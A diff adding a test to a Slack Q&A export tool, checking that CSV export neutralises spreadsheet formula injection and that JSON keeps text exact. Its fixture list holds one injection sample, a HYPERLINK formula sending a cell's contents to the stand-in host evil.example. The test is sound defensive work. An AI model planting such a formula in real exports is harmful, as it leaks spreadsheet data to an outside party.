@@ -382,3 +382,43 @@ def test_forget_user_refuses_what_is_not_a_user_id(run_cli, workspace):
     for bad in ("u0gone1", "U1%", FORGOTTEN_USER_ID, "U 1"):
         code, _, err = run_cli("forget-user", "--team", "T1", "--user", bad)
         assert code == 1 and "not a Slack user id" in err, bad
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
+    "+1 agreed",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tindented=1+1",
+    "\r=1+1",
+    "'quoted already",
+    "plain text = fine",
+]
+
+
+def test_csv_cells_never_start_a_formula_and_json_stays_exact(run_cli, store, tmp_path):
+    """OWASP's CSV injection advice: a cell starting with = + - @, tab or CR is prefixed with a single quote,
+    so a spreadsheet shows it as text; read_export takes the quote off again; JSON keeps the text as it is."""
+    with store.session() as s:
+        s.add(Workspace(team_id="T1", created_at=NOW))
+        for n, body in enumerate(FORMULAS, start=1):
+            question = add_question(s, n, "U_A", body, ["ops"])
+            add_answer(s, question, 1, "U_B", body)
+    expected = db_rows(store, "T1")
+
+    folder = tmp_path / "csv"
+    assert run_cli("export", "--team", "T1", "--format", "csv", "--output", str(folder))[0] == 0
+    marked = ["'" + body if body[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else body for body in FORMULAS]
+    for name in ("questions", "answers"):
+        with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
+            rows = list(csv.DictReader(file))
+        assert [row["text"] for row in rows] == marked
+        cells = [cell for row in rows for cell in row.values()]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sort_like_db(export.read_export(folder)) == expected
+
+    target = tmp_path / "t1.json"
+    assert run_cli("export", "--team", "T1", "--format", "json", "--output", str(target))[0] == 0
+    data = json.loads(target.read_text(encoding="utf-8"))
+    assert [q["text"] for q in data["questions"]] == FORMULAS
+    assert sort_like_db(export.read_export(target)) == expected
